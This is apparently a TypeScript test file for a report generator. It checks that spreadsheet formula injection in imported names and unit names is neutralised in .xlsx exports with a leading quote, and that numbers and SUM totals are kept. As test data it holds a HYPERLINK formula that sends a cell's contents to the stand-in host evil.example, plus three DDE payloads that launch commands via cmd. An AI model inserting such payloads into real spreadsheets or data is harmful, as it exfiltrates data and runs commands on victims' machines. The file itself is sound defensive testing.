/**
 * Issue 17, finding 11: text a spreadsheet would run as a formula (= + - @, tab, CR at the start)
 * reaches the .xlsx reports (imported names and unit names) as text with a leading ', and numbers
 * stay numbers.
 */
import type ExcelJS from 'exceljs';
import { produceReport } from '../../../activities/reports/produceReport';
import { readReport } from '../../../readModel/reports';
import { createTestDatabase, type TestDatabase } from '../../support/database';
import { openWithExcelJS } from './readBack';
import { CAMPAIGN, P, seedReadModel } from './readModelFixture';

const AT = '2025-02-20T10:00:00+08:00';
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C5,"点击查看")';
const CMD = "+cmd|' /C calc'!A0";
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C calc'!A0";

/** Every cell of every sheet: [sheet, address, value]. */
function cells(wb: ExcelJS.Workbook): [string, string, ExcelJS.CellValue][] {
  const out: [string, string, ExcelJS.CellValue][] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => out.push([ws.name, cell.address, cell.value]))));
  return out;
}

describe('formula injection in the .xlsx reports', () => {
  let db: TestDatabase;
  let workbooks: ExcelJS.Workbook[];

  beforeAll(async () => {
    db = await createTestDatabase();
    await seedReadModel(db.pool);
    // Hostile text where the reports take it from imported files and officers' input.
    await db.pool.query('UPDATE screening_result SET name = $2, ss_unit_name = $3 WHERE id_number = $1', [P.a[1], HYPERLINK, CMD]);
    await db.pool.query('UPDATE screening_result SET name = $2 WHERE id_number = $1', [P.a[2], MINUS]);
    await db.pool.query('UPDATE screening_result SET name = $2 WHERE id_number = $1', [P.a[3], SUM]);
    workbooks = [];
    for (const [kind, city] of [
      ['province_table', undefined],
      ['investigation_table', '2201'],
    ] as const) {
      const { report } = await produceReport(db.pool, { campaignId: CAMPAIGN, cityCode: city, kind, requestedBy: 'test', at: AT });
      workbooks.push(await openWithExcelJS((await readReport(db.pool, report.reportId))!.content));
    }
  });
  afterAll(async () => {
    await db.drop();
  });

  it('writes no text cell that starts like a formula, and the hostile values arrive quoted', () => {
    for (const wb of workbooks) {
      const all = cells(wb);
      const texts = all.map(([, , v]) => v).filter((v): v is string => typeof v === 'string');
      const formulaLike = texts.filter((t) => /^[=+\-@\t\r]/.test(t));
      expect(formulaLike).toEqual([]);
      for (const hostile of [HYPERLINK, CMD, MINUS, SUM]) expect(texts.some((t) => t.includes(`'${hostile}`))).toBe(true);
    }
  });

  it('keeps numbers as numbers and its own totals as formulas', () => {
    const summary = workbooks[0].worksheets.find((ws) => cells(workbooks[0]).some(([s, , v]) => s === ws.name && v === '合计'))!;
    const values = cells(workbooks[0])
      .filter(([s]) => s === summary.name)
      .map(([, , v]) => v);
    expect(values.filter((v) => typeof v === 'number').length).toBeGreaterThan(0);
    const formulas = values.filter((v): v is ExcelJS.CellFormulaValue => typeof v === 'object' && v !== null && 'formula' in v);
    expect(formulas.length).toBeGreaterThan(0);
    expect(formulas.every((f) => /^SUM\(/.test(f.formula))).toBe(true);
  });
});
